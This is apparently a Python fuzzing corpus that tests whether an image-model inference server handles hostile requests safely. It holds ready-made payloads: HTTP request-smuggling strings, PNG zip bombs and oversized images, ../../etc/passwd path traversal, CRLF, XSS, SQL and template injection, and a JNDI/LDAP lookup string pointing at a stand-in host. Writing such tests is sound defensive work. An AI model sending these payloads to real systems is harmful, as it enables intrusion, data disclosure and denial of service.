"""Requests that mean no good: each must be answered by 2xx or 4xx, soon, and without quoting it."""

import io
import json
import zlib
from collections.abc import Iterator
from typing import Any, NamedTuple

import numpy as np
from edge_bundles import IMAGE_SIZE
from edge_images import encode, photo
from edge_requests import BINARY, b64, binary_infer, bytes_tensor, infer_body
from edge_servers import INFER, MODEL_NAME, PREDICT
from PIL import Image

MARK = "zK9-hostile-marker-q7"
V1 = f"/v1/models/{MODEL_NAME}"
_JSON = {"content-type": "application/json"}
_SHAPE = [1, IMAGE_SIZE, IMAGE_SIZE, 3]


class Hostile(NamedTuple):
    """A request: what httpx is given, and a name for the report."""

    name: str
    method: str
    url: str
    arguments: dict[str, Any]


def hostile_requests() -> list[Hostile]:
    """Returns the corpus."""
    parts = (_images(), _json_bodies(), _tensors(), _paths(), _headers(), _forms())
    requests = [Hostile(name, method, url, arguments) for part in parts for name, method, url, arguments in part]
    assert len({request.name for request in requests}) == len(requests)
    return requests


def raw_requests() -> dict[str, bytes]:
    """Returns what is not even HTTP, or not quite, as bytes for a socket."""
    line = f"POST {PREDICT} HTTP/1.1\r\nHost: here\r\n"
    return {
        "nonsense": b"\x00\x01\x02\x03" * 100,
        "a TLS hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
        "no version": f"GET {PREDICT}\r\n\r\n".encode(),
        "version 9": f"GET {PREDICT} HTTP/9.9\r\n\r\n".encode(),
        "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "two lengths": f"{line}Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello".encode(),
        "length and chunks": f"{line}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode(),
        "negative length": f"{line}Content-Length: -5\r\n\r\nhello".encode(),
        "length in words": f"{line}Content-Length: five\r\n\r\nhello".encode(),
        "length without end": f"{line}Content-Length: {'9' * 400}\r\n\r\n".encode(),
        "bad chunk": f"{line}Transfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n".encode(),
        "chunk without end": f"{line}Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nhello\r\n".encode(),
        "no host": f"GET {V1} HTTP/1.1\r\n\r\n".encode(),
        "a header without a name": f"{line}: {MARK}\r\n\r\n".encode(),
        "a null in a header": f"{line}X: a\x00b\r\nContent-Length: 0\r\n\r\n".encode(),
        "a header on two lines": f"{line}X: a\r\n b\r\nContent-Length: 0\r\n\r\n".encode(),
        "bare line feeds": f"GET {V1} HTTP/1.1\nHost: here\n\n".encode(),
        "a path of 100 KB": f"GET /{'a' * 100_000} HTTP/1.1\r\nHost: here\r\n\r\n".encode(),
        "10,000 headers": (line + "".join(f"X-{n}: 1\r\n" for n in range(10_000)) + "\r\n").encode(),
        "an absolute address": f"GET http://elsewhere{V1} HTTP/1.1\r\nHost: here\r\n\r\n".encode(),
        "a tunnel": b"CONNECT elsewhere:443 HTTP/1.1\r\nHost: elsewhere\r\n\r\n",
        "a web socket": b"GET / HTTP/1.1\r\nHost: here\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n",
        "two requests at once": (f"GET {V1} HTTP/1.1\r\nHost: here\r\n\r\n" * 2).encode(),
        "a path that is no ASCII": b"GET /\xff\xfe HTTP/1.1\r\nHost: here\r\n\r\n",
        "a null in the path": b"GET /\x00 HTTP/1.1\r\nHost: here\r\n\r\n",
        "expectations": f"{line}Expect: 100-continue\r\nContent-Length: 999999999\r\n\r\n".encode(),
    }


def _images() -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    rng = np.random.default_rng(0)
    for image_format in ("JPEG", "PNG", "WEBP", "GIF", "TIFF", "BMP", "AVIF", "JPEG2000", "PPM"):
        data = encode(photo(rng, 60, 60), image_format)
        for share in (0.05, 0.5, 0.98):
            cut = data[: int(len(data) * share)]
            yield f"{image_format} cut at {share}", "POST", "/predict", {"content": cut}
        for turn in range(4):
            noisy = bytearray(data)
            for position in rng.integers(0, len(data), 20):
                noisy[position] = rng.integers(0, 256)
            yield f"{image_format} with noise {turn}", "POST", "/predict", {"content": bytes(noisy)}
    huge = io.BytesIO()
    Image.new("1", (13_000, 13_000)).save(huge, "PNG")
    bombs = {
        "a PNG of 169 megapixels": huge.getvalue(),
        "a PNG that claims 4 gigapixels": _png(2**16, 2**16, b""),
        "a PNG that claims 2**31 pixels a side": _png(2**31 - 1, 2**31 - 1, b""),
        "a PNG of no size": _png(0, 0, b""),
        "a PNG whose pixels are a zip bomb": _png(64, 64, zlib.compress(bytes(50_000_000))),
        "a GIF of 65,535 pixels a side": b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(100),
        "a BMP of negative height": b"BM" + bytes(12) + b"(\0\0\0" + b"\x10\0\0\0" + b"\x00\x00\x00\x80" + bytes(60),
        "an SVG": f"<svg xmlns='http://www.w3.org/2000/svg'><text>{MARK}</text></svg>".encode(),
        "a PostScript program": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({MARK}) print".encode(),
        "a PDF": b"%PDF-1.7\n" + MARK.encode(),
        "an HTML page": f"<html><script>alert('{MARK}')</script>".encode(),
        "an ELF program": b"\x7fELF" + bytes(200),
        "a TIFF that points at itself": b"II*\x00\x08\x00\x00\x00" + b"\x01\x00" + bytes(12) + b"\x08\x00\x00\x00",
        "nothing": b"",
        "one byte": b"\xff",
        "zeros": bytes(100_000),
    }
    for name, content in bombs.items():
        yield name, "POST", "/predict", {"content": content}
        yield f"{name} in base64", "POST", PREDICT, {"json": {"instances": [{"b64": b64(content)}]}}


def _png(width: int, height: int, pixels: bytes) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _json_bodies() -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    image = np.zeros((IMAGE_SIZE, IMAGE_SIZE, 3), int).tolist()
    ragged = [row[:] for row in image]
    ragged[3] = ragged[3][:-1]
    texts = {
        "deep lists": "[" * 100_000,
        "deep closed lists": "[" * 900 + "]" * 900,
        "deep objects": '{"a":' * 100_000,
        "deep instances": '{"instances": ' + "[" * 900 + "]" * 900 + "}",
        "NaN": '{"instances": [[[NaN]]]}',
        "infinity": '{"instances": [[[Infinity, -Infinity]]]}',
        "a number of 1,000 digits": '{"instances": [[[' + "9" * 1000 + "]]]}",
        "a tiny float": '{"instances": [[[1e-400]]]}',
        "a huge float": '{"instances": [[[1e400]]]}',
        "an unpaired surrogate": '{"instances": ["\\ud800"]}',
        "a byte order mark": '\ufeff{"instances": []}',
        "a key twice": '{"instances": [], "instances": [1]}',
        "a comment": '{"instances": [] /* none */}',
        "a trailing comma": '{"instances": [1,]}',
        "single quotes": "{'instances': []}",
        "a prototype": '{"__proto__": {"instances": []}, "constructor": 1}',
        "a marked key": f'{{"{MARK}": "{MARK}"}}',
        "a marked instance": f'{{"instances": ["{MARK}"]}}',
        "a marked signature": f'{{"instances": [{{"b64": "AA=="}}], "signature_name": "{MARK}"}}',
        "a marked column": f'{{"inputs": {{"{MARK}": ["{MARK}"]}}}}',
        "one long and many short strings": json.dumps({"instances": [[["a" * 1_000_000, *(["b"] * 100_000)]]]}),
        "a million instances": '{"instances": [' + "1," * 999_999 + "1]}",
        "a million empty lists": '{"instances": [' + "[]," * 999_999 + "[]]}",
        "UTF-16": '{"instances": []}'.encode("utf-16").decode("latin-1"),
    }
    for name, text in texts.items():
        for url in (PREDICT, INFER):
            content = text.encode("utf-8", "surrogatepass")
            yield f"{name} for {url}", "POST", url, {"content": content, "headers": _JSON}
    values: dict[str, Any] = {
        "null": None,
        "true": True,
        "a number": 7,
        "a float": 0.5,
        "text": MARK,
        "an object": {MARK: MARK},
        "a list": [MARK],
        "ragged pixels": ragged,
        "pixels that are booleans": (np.array(image) == 1).tolist(),
        "pixels that are floats": (np.array(image) + 0.5).tolist(),
        "pixels that are text": np.array(image).astype(str).tolist(),
        "pixels with one null": [[[None, 1, 2], *image[0][1:]], *image[1:]],
        "pixels of another size": np.zeros((7, 7, 3), int).tolist(),
        "pixels with an alpha": np.zeros((IMAGE_SIZE, IMAGE_SIZE, 4), int).tolist(),
        "b64 that is null": {"b64": None},
        "b64 that is a list": {"b64": [MARK]},
        "b64 of a megabyte of A": {"b64": "A" * 1_000_000},
        "b64 with spaces": {"b64": " A A = = "},
        "b64 with too little padding": {"b64": "AAA"},
        "b64 in b64": {"b64": b64(b64(MARK.encode()).encode())},
        "b64 of another alphabet": {"b64": "\u0410\u0411\u0412"},
        "b64 in image_bytes in image_bytes": {"image_bytes": {"image_bytes": {"b64": "AA=="}}},
    }
    for name, value in values.items():
        for key in ("instances", "inputs"):
            yield f"{name} in {key}", "POST", PREDICT, {"json": {key: [value]}}
            yield f"{name} as {key}", "POST", PREDICT, {"json": {key: value}}


def _tensors() -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    tensors: dict[str, Any] = {
        "a negative size": infer_body("UINT8", [-1, IMAGE_SIZE, IMAGE_SIZE, 3], [0]),
        "a size of 2**62": infer_body("UINT8", [2**62, IMAGE_SIZE, IMAGE_SIZE, 3], [0]),
        "a size of 2**64": infer_body("BYTES", [2**64 - 1], ["AA=="]),
        "sizes that multiply to nothing": infer_body("BYTES", [2**32, 2**32, 0], []),
        "a size that is a float": infer_body("BYTES", [1.0], ["AA=="]),
        "a size that is text": infer_body("BYTES", ["1"], ["AA=="]),  # type: ignore[list-item]
        "a thousand dimensions": infer_body("BYTES", [1] * 1000, ["AA=="]),
        "a marked datatype": infer_body(MARK, [1], [1]),
        "a marked name": {"inputs": [{"name": MARK, "datatype": "FP32", "shape": [1], "data": [1]}]},
        "a marked id": infer_body("BYTES", [1], [b64(MARK.encode())], id=MARK),
        "a marked output": infer_body("BYTES", [1], ["AA=="], outputs=[{"name": MARK}]),
        "data that is text": infer_body("BYTES", [1], MARK),  # type: ignore[arg-type]
        "data that is null": infer_body("BYTES", [1], None),  # type: ignore[arg-type]
        "no data": {"inputs": [{"name": "a", "datatype": "BYTES", "shape": [1]}]},
        "an input that is null": {"inputs": [None]},
        "inputs that are an object": {"inputs": {"name": "a"}},
        "a thousand inputs": {"inputs": [{"name": "a", "datatype": "BYTES", "shape": [1], "data": ["AA=="]}] * 1000},
        "parameters that are text": infer_body("BYTES", [1], ["AA=="], parameters=MARK),
        "outputs that are a number": infer_body("BYTES", [1], ["AA=="], outputs=5),
        "outputs of outputs": infer_body("BYTES", [1], ["AA=="], outputs=[{"name": {"name": "label"}}]),
    }
    for name, body in tensors.items():
        yield name, "POST", INFER, {"json": body}
    binary = {
        "an element longer than the body": binary_infer("BYTES", [1], b"\xff\xff\xff\xff" + MARK.encode()),
        "elements without end": binary_infer("BYTES", [100], bytes(4) * 99),
        "half a length": binary_infer("BYTES", [2], bytes_tensor([b"a"]) + b"\x01\x00"),
        "too few pixels": binary_infer("UINT8", _SHAPE, bytes(10)),
        "too many pixels": binary_infer("UINT8", _SHAPE, bytes(10_000)),
        "pixels as FP32": binary_infer("FP32", _SHAPE, bytes(4 * 3 * IMAGE_SIZE**2)),
        "pixels as FP16": binary_infer("FP16", _SHAPE, bytes(2 * 3 * IMAGE_SIZE**2)),
        "pixels in a shape of 2**40": binary_infer("UINT8", [2**40, IMAGE_SIZE, IMAGE_SIZE, 3], bytes(9)),
        "a binary marker": binary_infer("BYTES", [1], bytes_tensor([MARK.encode()])),
    }
    for name, arguments in binary.items():
        yield name, "POST", INFER, arguments
    for length in ("-1", "0x10", "1e3", "99999999999999999999", "+5", "5, 5", "\u0661"):
        headers = {"content-type": BINARY, "inference-header-content-length": length.encode()}
        yield f"a header length of {length!r}", "POST", INFER, {"content": MARK.encode(), "headers": headers}
    for size in (-1, 2**63, "9", None, [9], 1.5, True):
        header = {"name": "a", "datatype": "BYTES", "shape": [1], "parameters": {"binary_data_size": size}}
        yield f"a binary size of {size!r}", "POST", INFER, {"json": {"inputs": [header]}}


def _paths() -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    names = [
        "..",
        "../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e",
        "....//....//",
        "%00",
        "%ff%fe",
        "%0d%0aSet-Cookie:%20a=b",
        "a" * 5000,
        f"{MODEL_NAME}%2f..%2fother",
        f"{MODEL_NAME}:predict:predict",
        "*",
        MARK,
        "<script>alert(1)</script>",
        "${jndi:ldap://elsewhere/a}",
        "' OR 1=1 --",
        "{{7*7}}",
        "con",
        "\u202eeman",
    ]
    for name in names:
        short = name[:40]
        body = {"json": {"instances": [{"b64": "AA=="}]}}
        yield f"model {short}", "POST", f"/v1/models/{name}:predict", body
        yield f"version {short}", "POST", f"{V1}/versions/{name}:predict", body
        yield f"label {short}", "GET", f"{V1}/labels/{name}", {}
        yield f"V2 version {short}", "GET", f"/v2/models/{MODEL_NAME}/versions/{name}", {}
    for version in ("-1", "0", "1.5", "9" * 400, "3 ", "03", "latest", "3%00", "\u0663"):
        yield f"version number {version[:40]!r}", "GET", f"{V1}/versions/{version}/metadata", {}
    for path in ("/admin", "/.env", "/docs", "/openapi/v1/completions", "/v2/repository/index", "//", "/%2e%2e/"):
        yield f"path {path}", "GET", path, {}
    for path in ("/predict/", f"{PREDICT}/", f"{INFER}/", f"{V1}/", f"/v2/models/{MODEL_NAME}/", "/metrics/", "/v2/"):
        for method in ("GET", "POST"):
            yield f"slash after {method} {path}", method, path, {"headers": {"host": MARK}}
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND"):
        yield f"method {method}", method, PREDICT, {}
    for top in ("0", "-1", "1e9", MARK, "", "5&top=6", "9" * 5000):
        yield f"top {top[:40]!r}", "POST", f"/predict?top={top}", {"content": b""}


def _headers() -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    image = encode(photo(np.random.default_rng(3), 30, 30), "JPEG")
    headers = {
        "gzip": {"content-encoding": "gzip"},
        "an unknown encoding": {"content-encoding": MARK},
        "a marked content type": {"content-type": MARK},
        "an endless content type": {"content-type": "a" * 30_000},
        "a cloud event": {"ce-id": "1", "ce-source": "a", "ce-type": "b", "ce-specversion": "1.0"},
        "a range": {"range": "bytes=0-99999999999"},
        "a marked cookie": {"cookie": f"a={MARK}"},
        "a marked request id": {"x-request-id": MARK},
        "a forwarded host": {"x-forwarded-host": MARK, "x-forwarded-for": "1.2.3.4"},
        "another host": {"host": MARK},
        "a key that nobody asked for": {"authorization": f"Bearer {MARK}"},
        "a key that is no ASCII": {"authorization": "Bearer \u00e9".encode()},
        "another method": {"x-http-method-override": "DELETE"},
    }
    for name, header in headers.items():
        yield name, "POST", "/predict", {"content": image, "headers": header}
        yield f"{name} on V1", "POST", PREDICT, {"content": b"{}", "headers": header}


def _forms() -> Iterator[tuple[str, str, str, dict[str, Any]]]:
    form = {"content-type": "multipart/form-data; boundary=xx"}
    part = b'--xx\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\n'
    contents = {
        "without parts": b"",
        "without an end": part + MARK.encode(),
        "without a file": b'--xx\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--xx--\r\n',
        "of a thousand files": (part + b"c\r\n") * 1000 + b"--xx--\r\n",
        "without a disposition": b"--xx\r\n\r\nhello\r\n--xx--\r\n",
        "of nonsense": bytes(1000),
        "with a path for a name": part.replace(b'"b"', b'"../../etc/passwd"') + b"c\r\n--xx--\r\n",
        "with a long header": b"--xx\r\nX: " + b"a" * 100_000 + b"\r\n\r\n\r\n--xx--\r\n",
    }
    for name, content in contents.items():
        yield f"a form {name}", "POST", "/predict", {"content": content, "headers": form}
    for boundary in ("", "; boundary=", "; boundary=" + "x" * 5000, "; boundary=\u00e9"):
        headers = {"content-type": f"multipart/form-data{boundary}".encode()}
        yield f"a form with{boundary[:20]}", "POST", "/predict", {"content": part, "headers": headers}
